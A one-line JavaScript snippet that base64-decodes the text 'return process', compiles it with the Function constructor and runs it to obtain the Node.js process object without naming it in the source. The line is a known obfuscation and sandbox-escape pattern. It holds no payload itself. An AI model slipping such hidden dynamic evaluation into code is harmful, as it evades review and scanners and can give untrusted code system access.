const f = new Function(atob("cmV0dXJuIHByb2Nlc3M="))();
